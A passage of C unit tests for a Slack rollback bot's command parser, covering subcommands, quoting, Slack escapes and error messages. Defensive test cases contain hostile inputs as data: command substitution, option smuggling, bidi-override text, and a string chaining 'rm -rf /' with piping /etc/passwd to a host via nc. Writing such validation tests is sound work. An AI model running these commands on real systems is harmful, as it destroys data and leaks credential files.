HOSTILE_REJECTED(test_hostile_minus_sign_lookalike_option,
		 "payments-api \xe2\x88\x92\xe2\x88\x92to 41", CMD_ESYNTAX,
		 "Unexpected `\xe2\x88\x92\xe2\x88\x92to`" STRAY)
HOSTILE_REJECTED(test_hostile_bidi_override_in_reason,
		 "payments-api --reason \"\xe2\x80\xaegnp.exe\"", CMD_EVALUE,
		 "The reason contains a control character (U+202E); use plain text.")
HOSTILE_REJECTED(test_hostile_slack_channel_ping_as_service, "<!channel>", CMD_EVALUE,
		 "`@channel`" BAD_NAME)
HOSTILE_REJECTED(test_hostile_option_smuggled_in_quoted_target, "payments-api --to '41 --force'",
		 CMD_EVALUE, "`41 --force`" PAY_NOT_REVISION)
HOSTILE_REJECTED(test_hostile_second_equals_in_target, "payments-api --to=41=42", CMD_EVALUE,
		 "`41=42`" PAY_NOT_REVISION)
HOSTILE_REJECTED(test_hostile_second_reason, "payments-api --reason a --reason \"$(id)\"",
		 CMD_ESYNTAX, "`--reason` given twice.")
HOSTILE_REJECTED(test_hostile_empty_quoted_target, "payments-api --to \"\"", CMD_ESYNTAX,
		 "`--to` needs a value, e.g. `--to 41`.")
HOSTILE_REJECTED(test_hostile_invalid_utf8_bytes, "payments-api \xff\xfe", CMD_ESYNTAX,
		 "The command contains bytes that are not valid UTF-8 text; please retype it.")
HOSTILE_REJECTED(test_hostile_overlong_utf8_slash, "payments-api --to \xc0\xaf", CMD_ESYNTAX,
		 "The command contains bytes that are not valid UTF-8 text; please retype it.")
HOSTILE_REJECTED(test_hostile_severity_with_payload, "payments-api --severity \"P1; rm\"",
		 CMD_EVALUE, "`--severity` must be P0, P1, P2 or P3, not `P1; rm`.")
HOSTILE_REJECTED(test_hostile_redirect, "payments-api &gt; /etc/passwd", CMD_ESYNTAX,
		 "Unexpected `&gt;`" STRAY)
HOSTILE_REJECTED(test_hostile_glob_service, "*", CMD_EVALUE, "`*`" BAD_NAME)
HOSTILE_REJECTED(test_hostile_backtick_in_service_echo, "pay`id`", CMD_EVALUE, "`pay'id'`" BAD_NAME)

static void test_hostile_long_reason_10k(void **state)
{
	char text[10050];
	size_t n;
	(void)state;
	n = (size_t)snprintf(text, sizeof text, "payments-api --reason \"");
	memset(text + n, 'x', 10000);
	snprintf(text + n + 10000, sizeof text - n - 10000, "\"");
	parse_err(
		text, CMD_ESYNTAX,
		"That command is too long for rollbot (more than 4000 characters). A --reason may "
		"be at most 500 characters.");
}

static void test_hostile_many_words(void **state)
{
	char text[4001];
	size_t n = 0;
	(void)state;
	n += (size_t)snprintf(text, sizeof text, "payments-api");
	while (n + 3 < sizeof text - 1) {
		memcpy(text + n, " --", 3);
		n += 3;
	}
	text[n] = '\0';
	parse_err(text, CMD_ESYNTAX,
		  "Unknown option `--`. Options: --to, --severity, --reason, --dry-run, --with-db.");
}

static void test_hostile_shell_characters_in_reason_are_kept_verbatim(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason \"rm -rf / ; cat /etc/passwd | nc x 1 &amp;&amp; "
		 "echo &lt;b&gt; 'q' $HOME\"",
		 &c);
	assert_string_equal(c.reason, "rm -rf / ; cat /etc/passwd | nc x 1 && echo <b> 'q' $HOME");
	assert_string_equal(c.target, "");
}

static void test_hostile_options_inside_reason_stay_in_reason(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason \"--to 1 --severity P0 --kubeconfig=/tmp/x\"", &c);
	assert_string_equal(c.reason, "--to 1 --severity P0 --kubeconfig=/tmp/x");
	assert_string_equal(c.target, "");
	assert_int_equal(c.severity, CMD_SEV_UNSET);
}

static void test_hostile_unicode_reason_kept_verbatim(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason \"p\xd0\xb0yments 💥 ｆｕｌｌ\"", &c);
	assert_string_equal(c.reason, "p\xd0\xb0yments 💥 ｆｕｌｌ");
}

static void test_hostile_mention_in_target_rejected(void **state)
{
	(void)state;
	parse_err("payments-api --to <@U02JD0E4512|jane>", CMD_EVALUE, "`@jane`" PAY_NOT_REVISION);
}

static void test_with_db_sets_the_flag(void **state)
{
	struct cmd c;
	char err[CMD_ERR_LEN];

	(void)state;
	assert_int_equal(cmd_parse("payments-api --to 41 --with-db", services, N_SERVICES, &c, err,
				   sizeof err),
			 0);
	assert_true(c.with_db);
	assert_string_equal(c.target, "41");
}

static void test_with_db_refused_without_a_configured_command(void **state)
{
	(void)state;
	parse_err("search --with-db", CMD_EVALUE,
		  "`--with-db`: search has no `db_rollback` command in rollbot's configuration, "
		  "so rollbot cannot roll its database back. Ask the service's owners, or run the "
		  "down-migration by hand.");
}

static void test_with_db_takes_no_value(void **state)
{
	(void)state;
	parse_err("payments-api --with-db=yes", CMD_ESYNTAX, "`--with-db` takes no value.");
}

/* ---- subcommands ---------------------------------------------------- */

#define RESOLVE_TAKES                                                                        \
	"it takes none. Write the note after the ID, like `/rollback resolve INC-2026-0001 " \
	"fixed by the rollback`."
#define CANCEL_TAKES \
	"it takes none. Write the reason after the ID, like `/rollback cancel INC-2026-0001 false alarm`."
#define HISTORY_TAKES "it takes only a service name, like `/rollback history SERVICE`."
#define NOT_AN_ID     " is not an incident ID: they look like INC-2026-0001."
#define LIST_OPEN     " `/rollback status` lists the open incidents."

/* A service whose name is also an incident ID: legal, if unwise. */
static const struct cmd_service id_like[] = {
	{ "payments-api", PLAN_TARGET_REVISION, PLAN_KUBECTL, true },
	{ "inc-2026-0001", PLAN_TARGET_REVISION, PLAN_KUBECTL, false },
};

/* Parses `text`, which must succeed as `kind` with these fields. */
static void assert_sub(const char *text, enum cmd_kind kind, const char *incident,
		       const char *service, const char *reason, bool post)
{
	struct cmd c;

	parse_ok(text, &c);
	assert_int_equal(c.kind, kind);
	assert_string_equal(c.incident, incident);
	assert_string_equal(c.service, service);
	assert_string_equal(c.reason, reason);
	assert_int_equal(c.post, post);
	/* Nothing of the rollback form leaks into a subcommand. */
	assert_string_equal(c.target, "");
	assert_int_equal(c.severity, CMD_SEV_UNSET);
	assert_false(c.dry_run);
	assert_false(c.with_db);
}

static void test_status_alone_means_the_open_incidents(void **state)
{
	(void)state;
	assert_sub("status", CMD_STATUS, "", "", "", false);
}

static void test_status_with_id(void **state)
{
	(void)state;
	assert_sub("status INC-2026-0001", CMD_STATUS, "INC-2026-0001", "", "", false);
}

static void test_status_word_and_id_any_case(void **state)
{
	(void)state;
	assert_sub("STATUS inc-2026-0001 --post", CMD_STATUS, "INC-2026-0001", "", "", true);
	assert_sub("Status Inc-2026-0042", CMD_STATUS, "INC-2026-0042", "", "", false);
}

static void test_status_post_before_id(void **state)
{
	(void)state;
	assert_sub("status --post INC-2026-0001", CMD_STATUS, "INC-2026-0001", "", "", true);
}

static void test_status_post_without_id(void **state)
{
	(void)state;
	assert_sub("status --post", CMD_STATUS, "", "", "", true);
}

static void test_status_post_with_em_dash(void **state)
{
	(void)state;
	assert_sub("status —post", CMD_STATUS, "", "", "", true);
}

static void test_status_quoted_id(void **state)
{
	(void)state;
	assert_sub("status \"INC-2026-0001\"", CMD_STATUS, "INC-2026-0001", "", "", false);
}

static void test_incident_id_of_5_and_6_digits(void **state)
{
	(void)state;
	assert_sub("report INC-2026-12345", CMD_REPORT, "INC-2026-12345", "", "", false);
	assert_sub("report INC-2026-123456", CMD_REPORT, "INC-2026-123456", "", "", false);
}

static void test_status_help(void **state)
{
	(void)state;
	assert_help("status --help");
	assert_help("resolve -h");
	assert_help("report INC-2026-0001 --help");
	assert_help("history --help");
}

static void test_status_of_service_named_like_an_id(void **state)
{
	struct cmd c;
	(void)state;
	/* After `status` the word is an incident ID, even when a service has
	 * the same name... */
	parse_ok_in("status inc-2026-0001", id_like, RB_ARRAY_LEN(id_like), &c);
	assert_int_equal(c.kind, CMD_STATUS);
	assert_string_equal(c.incident, "INC-2026-0001");
	assert_string_equal(c.service, "");
	/* ...first, it is still the service... */
	parse_ok_in("inc-2026-0001 --to 3", id_like, RB_ARRAY_LEN(id_like), &c);
	assert_int_equal(c.kind, CMD_ROLLBACK);
	assert_string_equal(c.service, "inc-2026-0001");
	assert_string_equal(c.incident, "");
	/* ...and after `history`, a service. */
	parse_ok_in("history inc-2026-0001", id_like, RB_ARRAY_LEN(id_like), &c);
	assert_int_equal(c.kind, CMD_HISTORY);
	assert_string_equal(c.service, "inc-2026-0001");
	assert_string_equal(c.incident, "");
}

/* /rollback sent (issue 11, item 7): the draft's name, in any case. */
static void test_sent(void **state)
{
	struct cmd c;

	(void)state;
	parse_ok("sent inc-2026-0007 Status-Page", &c);
	assert_int_equal(c.kind, CMD_SENT);
	assert_string_equal(c.incident, "INC-2026-0007");
	assert_string_equal(c.reason, "status-page");
	parse_ok("SENT INC-2026-0007 \"email\"", &c);
	assert_string_equal(c.reason, "email");
	parse_ok("sent INC-2026-0007 internal", &c);
	assert_string_equal(c.reason, "internal");
	parse_err("sent INC-2026-0007", CMD_EVALUE,
		  "Say which draft was sent: `status-page`, `email` or `internal`, like "
		  "`/rollback sent INC-2026-0001 status-page`.");
	parse_err("sent INC-2026-0007 the email", CMD_EVALUE,
		  "`the email` is not a draft: say which one was sent, `status-page`, `email` or "
		  "`internal`, like `/rollback sent INC-2026-0001 status-page`.");
	assert_true(cmd_is_reserved_word("sent"));
}

/* /rollback assess (issue 12, item 1): one known service, and --post. */
static void test_assess(void **state)
{
	(void)state;
	assert_sub("assess payments-api", CMD_ASSESS, "", "payments-api", "", false);
	assert_sub("ASSESS --post payments-api", CMD_ASSESS, "", "payments-api", "", true);
	assert_sub("assess payments-api --post", CMD_ASSESS, "", "payments-api", "", true);
	assert_help("assess --help");
	assert_true(cmd_is_reserved_word("assess"));
	parse_err("assess", CMD_ESYNTAX,
		  "`assess` needs a service, like `/rollback assess SERVICE --post`. "
		  "`/rollback services` lists them.");
	parse_err("assess --post", CMD_ESYNTAX,
		  "`assess` needs a service, like `/rollback assess SERVICE --post`. "
		  "`/rollback services` lists them.");
	parse_err("assess payments-api search", CMD_ESYNTAX,
		  "`assess` takes one service name, and `--post`.");
	parse_err("assess payments-api --postt", CMD_ESYNTAX,
		  "Unknown option `--postt` for `assess`. Did you mean `--post`?");
	parse_err("assess payments-api --to 41", CMD_ESYNTAX,
		  "`--to` is an option for rollbacks, not for `assess`: only a service name and "
		  "`--post`.");
}

static void test_resolve_with_note(void **state)
{
	(void)state;
	assert_sub("resolve INC-2026-0001 fixed by the rollback", CMD_RESOLVE, "INC-2026-0001", "",
		   "fixed by the rollback", false);
}

static void test_resolve_without_note(void **state)
{
	(void)state;
	assert_sub("Resolve inc-2026-0001", CMD_RESOLVE, "INC-2026-0001", "", "", false);
	assert_sub("resolve INC-2026-0001   ", CMD_RESOLVE, "INC-2026-0001", "", "", false);
}

static void test_resolve_note_is_trimmed_and_keeps_inner_spaces(void **state)
{
	(void)state;
	assert_sub("resolve INC-2026-0001 \t fixed  by  it \xc2\xa0\n", CMD_RESOLVE,
		   "INC-2026-0001", "", "fixed  by  it", false);
}

static void test_resolve_quoted_note_loses_its_quotes(void **state)
{
	(void)state;
	assert_sub("resolve INC-2026-0001 \"fixed by the rollback\"", CMD_RESOLVE, "INC-2026-0001",
		   "", "fixed by the rollback", false);
	assert_sub("resolve INC-2026-0001 “it’s fixed”  ", CMD_RESOLVE, "INC-2026-0001", "",
		   "it’s fixed", false);
	assert_sub("resolve INC-2026-0001 'it's fixed'", CMD_RESOLVE, "INC-2026-0001", "",
		   "it's fixed", false);
}

static void test_resolve_partly_quoted_note_is_kept_as_typed(void **state)
{
	(void)state;
	assert_sub("resolve INC-2026-0001 \"pay\" button works again", CMD_RESOLVE, "INC-2026-0001",
		   "", "\"pay\" button works again", false);
	assert_sub("resolve INC-2026-0001 \"a\" \"b\"", CMD_RESOLVE, "INC-2026-0001", "",
		   "\"a\" \"b\"", false);
}

static void test_resolve_note_with_unclosed_quote_is_kept_as_typed(void **state)
{
	(void)state;
	assert_sub("resolve INC-2026-0001 the \"pay button", CMD_RESOLVE, "INC-2026-0001", "",
		   "the \"pay button", false);
	assert_sub("resolve INC-2026-0001 \"pay button", CMD_RESOLVE, "INC-2026-0001", "",
		   "\"pay button", false);
}

static void test_resolve_note_decodes_like_a_reason(void **state)
{
	(void)state;
	assert_sub("resolve INC-2026-0001 errors &amp; timeouts &lt;1%&gt; gone, thanks "
		   "<@U02JD0E4512|jane.doe> see <#C05K8Q2V7XM|incidents>",
		   CMD_RESOLVE, "INC-2026-0001", "",
		   "errors & timeouts <1%> gone, thanks @jane.doe see #incidents", false);
	/* Once: the person typed "&lt;". */
	assert_sub("resolve INC-2026-0001 \"a &amp;lt; b\"", CMD_RESOLVE, "INC-2026-0001", "",
		   "a &lt; b", false);
}

static void test_resolve_note_may_quote_commands(void **state)
{
	(void)state;
	/* A note never reaches a script, so it may show what was run. */
	assert_sub("resolve INC-2026-0001 fixed by `kubectl rollout undo` and $(luck)", CMD_RESOLVE,
		   "INC-2026-0001", "", "fixed by `kubectl rollout undo` and $(luck)", false);
}

static void test_resolve_note_dashes_are_text(void **state)
{
	(void)state;
	assert_sub("resolve INC-2026-0001 -- see thread", CMD_RESOLVE, "INC-2026-0001", "",
		   "-- see thread", false);
	assert_sub("resolve INC-2026-0001 -5% errors now", CMD_RESOLVE, "INC-2026-0001", "",
		   "-5% errors now", false);
	assert_sub("resolve INC-2026-0001 fixed --to 41 worked", CMD_RESOLVE, "INC-2026-0001", "",
		   "fixed --to 41 worked", false);
}

static void test_resolve_note_of_500_characters(void **state)
{
	char text[64 + 2 * 500];
	size_t n;
	struct cmd c;
	(void)state;
	n = (size_t)snprintf(text, sizeof text, "resolve INC-2026-0001 ");
	for (int i = 0; i < 500; i++, n += 2)
		memcpy(text + n, "\xc3\xa9", 2);
	text[n] = '\0';
	parse_ok(text, &c);
	assert_int_equal(c.kind, CMD_RESOLVE);
	assert_int_equal(strlen(c.reason), 1000);
}

static void test_resolve_note_too_long(void **state)
{
	char text[600];
	(void)state;
	snprintf(text, sizeof text, "resolve INC-2026-0001 %0501d", 0);
	parse_err(text, CMD_EVALUE,
		  "The note is 501 characters long; the limit is 500. Put the details in the "
		  "incident thread.");
}

static void test_resolve_note_line_break(void **state)
{
	(void)state;
	parse_err("resolve INC-2026-0001 fixed\nby the rollback", CMD_EVALUE,
		  "The note has a line break; keep it on one line.");
}

static void test_resolve_note_control_character(void **state)
{
	(void)state;
	parse_err("resolve INC-2026-0001 fixed \x1b[2J", CMD_EVALUE,
		  "The note contains a control character (U+001B); use plain text.");
}

static void test_cancel_with_reason(void **state)
{
	(void)state;
	assert_sub("cancel INC-2026-0001 false alarm", CMD_CANCEL, "INC-2026-0001", "",
		   "false alarm", false);
	assert_sub("CANCEL inc-2026-0001 'it's a false alarm'", CMD_CANCEL, "INC-2026-0001", "",
		   "it's a false alarm", false);
	assert_sub("cancel INC-2026-0001", CMD_CANCEL, "INC-2026-0001", "", "", false);
}

static void test_cancel_reason_too_long(void **state)
{
	char text[600];
	(void)state;
	snprintf(text, sizeof text, "cancel INC-2026-0001 %0501d", 0);
	parse_err(text, CMD_EVALUE,
		  "The reason is 501 characters long; the limit is 500. Put the details in the "
		  "incident thread.");
}

static void test_cancel_reason_line_break(void **state)
{
	(void)state;
	parse_err("cancel INC-2026-0001 \"false\nalarm\"", CMD_EVALUE,
		  "The reason has a line break; keep it on one line.");
}

static void test_report(void **state)
{
	(void)state;
	assert_sub("report INC-2026-0001", CMD_REPORT, "INC-2026-0001", "", "", false);
	assert_sub("REPORT inc-2026-0007 ", CMD_REPORT, "INC-2026-0007", "", "", false);
}

static void test_history_of_every_service(void **state)
{
	(void)state;
	assert_sub("history", CMD_HISTORY, "", "", "", false);
}

static void test_history_of_one_service(void **state)
{
	(void)state;
	assert_sub("History payments-api", CMD_HISTORY, "", "payments-api", "", false);
}

static void test_reserved_words(void **state)
{
	static const char *const words[] = { "help",   "status",  "resolve", "cancel",
					     "report", "history", "STATUS",  "History",
					     "services" };
	(void)state;
	for (size_t i = 0; i < RB_ARRAY_LEN(words); i++)
		assert_true(cmd_is_reserved_word(words[i]));
	assert_false(cmd_is_reserved_word("payments-api"));
	assert_false(cmd_is_reserved_word("statuses"));
	assert_false(cmd_is_reserved_word("stat"));
	assert_false(cmd_is_reserved_word(""));
	assert_false(cmd_is_reserved_word(NULL));
}

/* ---- subcommand errors ---------------------------------------------- */

static void test_resolve_needs_id(void **state)
{
	(void)state;
	parse_err("resolve", CMD_ESYNTAX,
		  "`resolve` needs the incident ID, like `/rollback resolve INC-2026-0001 fixed by "
		  "the rollback`." LIST_OPEN);
}

static void test_cancel_needs_id(void **state)
{
	(void)state;
	parse_err("cancel  ", CMD_ESYNTAX,
		  "`cancel` needs the incident ID, like `/rollback cancel INC-2026-0001 false "
		  "alarm`." LIST_OPEN);
}

static void test_report_needs_id(void **state)
{
	(void)state;
	parse_err(
		"report", CMD_ESYNTAX,
		"`report` needs the incident ID, like `/rollback report INC-2026-0001`." LIST_OPEN);
}

static void test_short_year_is_not_an_id(void **state)
{
	(void)state;
	parse_err("status INC-26-1", CMD_EVALUE, "`INC-26-1`" NOT_AN_ID);
}

static void test_note_first_is_not_an_id(void **state)
{
	(void)state;
	parse_err("resolve fixed INC-2026-0001", CMD_EVALUE, "`fixed`" NOT_AN_ID);
}

static void test_id_without_prefix_suggests_it(void **state)
{
	(void)state;
	parse_err("report 2026-0001", CMD_EVALUE,
		  "`2026-0001`" NOT_AN_ID " Did you mean `INC-2026-0001`?");
}

static void test_id_with_short_number_suggests_padding(void **state)
{
	(void)state;
	parse_err("resolve inc-2026-12 fixed", CMD_EVALUE,
		  "`inc-2026-12`" NOT_AN_ID " Did you mean `INC-2026-0012`?");
}

static void test_id_with_punctuation_suggests_it(void **state)
{
	(void)state;
	parse_err("resolve INC-2026-0001: fixed", CMD_EVALUE,
		  "`INC-2026-0001:`" NOT_AN_ID " Did you mean `INC-2026-0001`?");
	parse_err("status #INC-2026-0001", CMD_EVALUE,
		  "`#INC-2026-0001`" NOT_AN_ID " Did you mean `INC-2026-0001`?");
}

static void test_id_with_7_digits(void **state)
{
	(void)state;
	parse_err("report INC-2026-1234567", CMD_EVALUE, "`INC-2026-1234567`" NOT_AN_ID);
}

static void test_id_with_letters_after(void **state)
{
	(void)state;
	parse_err("report INC-2026-0001a", CMD_EVALUE, "`INC-2026-0001a`" NOT_AN_ID);
}

static void test_empty_quoted_id(void **state)
{
	(void)state;
	parse_err("cancel \"\" oops", CMD_EVALUE,
		  "The incident ID is empty: they look like INC-2026-0001.");
}

static void test_id_echo_is_escaped(void **state)
{
	(void)state;
	parse_err("status <!channel>", CMD_EVALUE, "`@channel`" NOT_AN_ID);
	parse_err("status a&amp;lt;b", CMD_EVALUE, "`a&amp;lt;b`" NOT_AN_ID);
}

static void test_service_where_the_id_goes(void **state)
{
	(void)state;
	parse_err("status payments-api", CMD_EVALUE,
		  "`status` takes an incident ID, not a service: `/rollback status` lists the open "
		  "incidents, `/rollback history payments-api` the past ones of payments-api.");
}

static void test_status_unknown_option(void **state)
{
	(void)state;
	parse_err("status --foo", CMD_ESYNTAX,
		  "Unknown option `--foo` for `status`: only `--post`.");
}

static void test_status_option_near_miss(void **state)
{
	(void)state;
	parse_err("status INC-2026-0001 --pst", CMD_ESYNTAX,
		  "Unknown option `--pst` for `status`. Did you mean `--post`?");
	parse_err("status --POST", CMD_ESYNTAX,
		  "Unknown option `--POST` for `status`. Did you mean `--post`?");
}

static void test_status_rollback_option(void **state)
{
	(void)state;
	parse_err("status INC-2026-0001 --dry-run", CMD_ESYNTAX,
		  "`--dry-run` is an option for rollbacks, not for `status`: only `--post`.");
	parse_err("status --severity=P1", CMD_ESYNTAX,
		  "`--severity` is an option for rollbacks, not for `status`: only `--post`.");
}

static void test_status_post_takes_no_value(void **state)
{
	(void)state;
	parse_err("status --post=yes", CMD_ESYNTAX, "`--post` takes no value.");
}

static void test_status_two_ids(void **state)
{
	(void)state;
	parse_err("status INC-2026-0001 INC-2026-0002", CMD_ESYNTAX,
		  "`status` takes at most one incident ID, and `--post`.");
}

static void test_status_unclosed_quote(void **state)
{
	(void)state;
	parse_err("status \"INC-2026-0001", CMD_ESYNTAX,
		  "The quote opened at column 8 is never closed.");
}

static void test_report_takes_only_the_id(void **state)
{
	(void)state;
	parse_err("report INC-2026-0001 please", CMD_ESYNTAX,
		  "`report` takes only the incident ID.");
}

static void test_report_option(void **state)
{
	(void)state;
	parse_err("report INC-2026-0001 --post", CMD_ESYNTAX,
		  "Unknown option `--post` for `report`: it takes only the incident ID.");
	parse_err("report --to 41 INC-2026-0001", CMD_ESYNTAX,
		  "`--to` is an option for rollbacks, not for `report`: it takes only the incident "
		  "ID.");
}

static void test_resolve_reason_option_out_of_habit(void **state)
{
	(void)state;
	parse_err("resolve INC-2026-0001 --reason \"fixed\"", CMD_ESYNTAX,
		  "`--reason` is an option for rollbacks, not for `resolve`: " RESOLVE_TAKES);
	parse_err("resolve INC-2026-0001 —reason=fixed", CMD_ESYNTAX,
		  "`--reason` is an option for rollbacks, not for `resolve`: " RESOLVE_TAKES);
}

static void test_resolve_unknown_option(void **state)
{
	(void)state;
	parse_err("resolve INC-2026-0001 --force", CMD_ESYNTAX,
		  "Unknown option `--force` for `resolve`: " RESOLVE_TAKES);
	parse_err("resolve --post INC-2026-0001", CMD_ESYNTAX,
		  "Unknown option `--post` for `resolve`: " RESOLVE_TAKES);
}

static void test_cancel_rollback_option_before_id(void **state)
{
	(void)state;
	parse_err("cancel --severity P1 INC-2026-0001", CMD_ESYNTAX,
		  "`--severity` is an option for rollbacks, not for `cancel`: " CANCEL_TAKES);
}

static void test_history_unknown_service(void **state)
{
	(void)state;
	parse_err("history paymnts-api", CMD_EUNKNOWN,
		  "Unknown service `paymnts-api`. Did you mean `payments-api`? " KNOWN);
}

static void test_history_bad_service_name(void **state)
{
	(void)state;
	parse_err("history pay;rm", CMD_EVALUE, "`pay;rm`" BAD_NAME);
}

static void test_history_of_an_incident(void **state)
{
	(void)state;
	parse_err("history inc-2026-0042", CMD_EVALUE,
		  "`history` takes a service name, not an incident ID. For one incident: "
		  "`/rollback report INC-2026-0042`.");
}

static void test_history_two_services(void **state)
{
	(void)state;
	parse_err("history search payments-api", CMD_ESYNTAX,
		  "`history` takes at most one service name.");
}

static void test_history_empty_service(void **state)
{
	(void)state;
	parse_err("history \"\"", CMD_EVALUE,
		  "The service name is empty: `/rollback history SERVICE`, or `/rollback history` "
		  "for every service.");
}

static void test_history_option(void **state)
{
	(void)state;
	parse_err("history payments-api --severity P1", CMD_ESYNTAX,
		  "`--severity` is an option for rollbacks, not for `history`: " HISTORY_TAKES);
	parse_err("history --all", CMD_ESYNTAX,
		  "Unknown option `--all` for `history`: " HISTORY_TAKES);
}

static void test_subcommand_after_an_option(void **state)
{
	(void)state;
	parse_err("--post status INC-2026-0001", CMD_ESYNTAX,
		  "`--post` goes with `status`, like `/rollback status INC-2026-0001 --post`.");
	parse_err("--dry-run resolve INC-2026-0001", CMD_ESYNTAX,
		  "`resolve` must come first, right after /rollback, like `/rollback resolve "
		  "INC-2026-0001 fixed by the rollback`.");
}

static void test_post_on_a_rollback(void **state)
{
	(void)state;
	parse_err("payments-api --post", CMD_ESYNTAX,
		  "`--post` goes with `status`, like `/rollback status INC-2026-0001 --post`.");
}

static void test_subcommand_after_service_is_a_stray_word(void **state)
{
	(void)state;
	parse_err("payments-api status", CMD_ESYNTAX, "Unexpected `status`" STRAY);
}

static void test_quoted_subcommand_word_is_a_service(void **state)
{
	(void)state;
	parse_err("\"status\"", CMD_EUNKNOWN, "Unknown service `status`. " KNOWN);
}

static void test_usage_lists_every_form(void **state)
{
	const char *u = cmd_usage();
	(void)state;
	assert_non_null(strstr(u, "`/rollback status [INC-ID] [--post]`"));
	assert_non_null(strstr(u, "`/rollback resolve INC-ID [note]`"));
	assert_non_null(strstr(u, "`/rollback cancel INC-ID [reason]`"));
	assert_non_null(strstr(u, "`/rollback report INC-ID`"));
	assert_non_null(strstr(u, "`/rollback history [SERVICE]`"));
	assert_non_null(strstr(u, "INC-2026-0001"));
	assert_non_null(strstr(u, "[--with-db]"));
	assert_non_null(strstr(u, "`/rollback help`"));
}

static void test_error_cut_keeps_utf8(void **state)
{
	const char *full = "`ééé`" BAD_NAME;
	char err[16];
	struct cmd c;
	(void)state;
	/* Whatever the size, a cut message is a prefix of the whole one that
	 * ends between characters: Slack (and jansson) take only UTF-8. */
	for (size_t n = 1; n <= sizeof err; n++) {
		size_t len;
		assert_int_equal(cmd_parse("ééé", services, N_SERVICES, &c, err, n), CMD_EVALUE);
		len = strlen(err);
		assert_true(len < n);
		assert_memory_equal(err, full, len);
		assert_true(((unsigned char)full[len] & 0xC0) != 0x80);
	}
}

static void test_hostile_note_bidi_override(void **state)
{
	(void)state;
	parse_err("resolve INC-2026-0001 fixed \xe2\x80\xaegnp.exe", CMD_EVALUE,
		  "The note contains a control character (U+202E); use plain text.");
}

static void test_hostile_id_with_shell_characters(void **state)
{
	(void)state;
	parse_err("report INC-2026-0001;rm", CMD_EVALUE, "`INC-2026-0001;rm`" NOT_AN_ID);
	parse_err("report $(id)", CMD_EVALUE, "`$(id)`" NOT_AN_ID);
}

static void test_hostile_id_with_fullwidth_digits(void **state)
{
	(void)state;
	parse_err("status INC-\xef\xbc\x92"
		  "026-0001",
		  CMD_EVALUE,
		  "`INC-\xef\xbc\x92"
		  "026-0001`" NOT_AN_ID);
}

static void test_hostile_long_id(void **state)
{
	(void)state;
	parse_err("status INC-2026-00000000000000000000000000000000000000000001", CMD_EVALUE,
		  "`INC-2026-0000000000000000000000000000000…`" NOT_AN_ID);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_with_db_sets_the_flag),
		cmocka_unit_test(test_with_db_refused_without_a_configured_command),
		cmocka_unit_test(test_with_db_takes_no_value),
		cmocka_unit_test(test_full_command),
		cmocka_unit_test(test_service_alone_leaves_everything_unset),
		cmocka_unit_test(test_equals_forms),
		cmocka_unit_test(test_reason_keeps_equals_signs_after_the_first),
		cmocka_unit_test(test_options_before_service),
		cmocka_unit_test(test_smart_double_quotes),
		cmocka_unit_test(test_smart_single_quotes),
		cmocka_unit_test(test_mismatched_smart_quotes_still_close),
		cmocka_unit_test(test_single_quotes),
		cmocka_unit_test(test_apostrophe_inside_single_quotes),
		cmocka_unit_test(test_smart_apostrophe_inside_smart_quotes),
		cmocka_unit_test(test_double_quote_inside_single_quotes),
		cmocka_unit_test(test_reason_single_unquoted_word),
		cmocka_unit_test(test_reason_unquoted_word_with_apostrophe),
		cmocka_unit_test(test_reason_decodes_slack_escapes),
		cmocka_unit_test(test_reason_decodes_escapes_once),
		cmocka_unit_test(test_reason_keeps_unknown_entities),
		cmocka_unit_test(test_reason_user_mention_becomes_name),
		cmocka_unit_test(test_reason_channel_group_and_special_mentions),
		cmocka_unit_test(test_reason_links),
		cmocka_unit_test(test_reason_quote_inside_slack_token_is_not_a_quote),
		cmocka_unit_test(test_reason_of_500_characters),
		cmocka_unit_test(test_dry_run),
		cmocka_unit_test(test_dry_run_twice_is_harmless),
		cmocka_unit_test(test_severity_lower_case),
		cmocka_unit_test(test_version_target),
		cmocka_unit_test(test_quoted_target),
		cmocka_unit_test(test_em_dash_counts_as_two_hyphens),
		cmocka_unit_test(test_tabs_newlines_and_nbsp_separate_words),
		cmocka_unit_test(test_help_word),
		cmocka_unit_test(test_help_word_any_case),
		cmocka_unit_test(test_help_long_option),
		cmocka_unit_test(test_help_short_option),
		cmocka_unit_test(test_help_empty_text),
		cmocka_unit_test(test_help_blank_text),
		cmocka_unit_test(test_help_null_text),
		cmocka_unit_test(test_help_after_service),
		cmocka_unit_test(test_error_buffer_may_be_small),
		cmocka_unit_test(test_unknown_option_suggests_near_miss),
		cmocka_unit_test(test_unknown_option_in_upper_case_suggests_lower),
		cmocka_unit_test(test_unknown_option_without_near_miss),
		cmocka_unit_test(test_unknown_short_option),
		cmocka_unit_test(test_to_needs_value_at_end),
		cmocka_unit_test(test_to_needs_value_before_option),
		cmocka_unit_test(test_to_equals_empty_needs_value),
		cmocka_unit_test(test_severity_needs_value),
		cmocka_unit_test(test_reason_needs_value),
		cmocka_unit_test(test_dry_run_takes_no_value),
		cmocka_unit_test(test_unclosed_quote_names_column),
		cmocka_unit_test(test_unclosed_smart_quote_names_column),
		cmocka_unit_test(test_unclosed_quote_column_counts_characters_as_typed),
		cmocka_unit_test(test_quote_closed_only_before_space),
		cmocka_unit_test(test_to_given_twice),
		cmocka_unit_test(test_severity_given_twice),
		cmocka_unit_test(test_reason_given_twice),
		cmocka_unit_test(test_stray_word),
		cmocka_unit_test(test_stray_number_suggests_to),
		cmocka_unit_test(test_stray_number_after_to_is_plain_stray),
		cmocka_unit_test(test_stray_number_on_bluegreen_is_plain_stray),
		cmocka_unit_test(test_stray_severity_suggests_option),
		cmocka_unit_test(test_unquoted_reason_of_several_words),
		cmocka_unit_test(test_no_service),
		cmocka_unit_test(test_no_service_only_dry_run),
		cmocka_unit_test(test_empty_quoted_service),
		cmocka_unit_test(test_text_too_long),
		cmocka_unit_test(test_invalid_utf8),
		cmocka_unit_test(test_unknown_service_lists_known),
		cmocka_unit_test(test_unknown_service_suggests_near_miss),
		cmocka_unit_test(test_unknown_service_in_other_case),
		cmocka_unit_test(test_unknown_service_with_none_configured),
		cmocka_unit_test(test_unknown_service_long_list_is_cut),
		cmocka_unit_test(test_service_with_shell_characters),
		cmocka_unit_test(test_service_starting_with_dot),
		cmocka_unit_test(test_service_too_long),
		cmocka_unit_test(test_revision_with_letters),
		cmocka_unit_test(test_revision_with_leading_zero),
		cmocka_unit_test(test_revision_checked_when_service_comes_last),
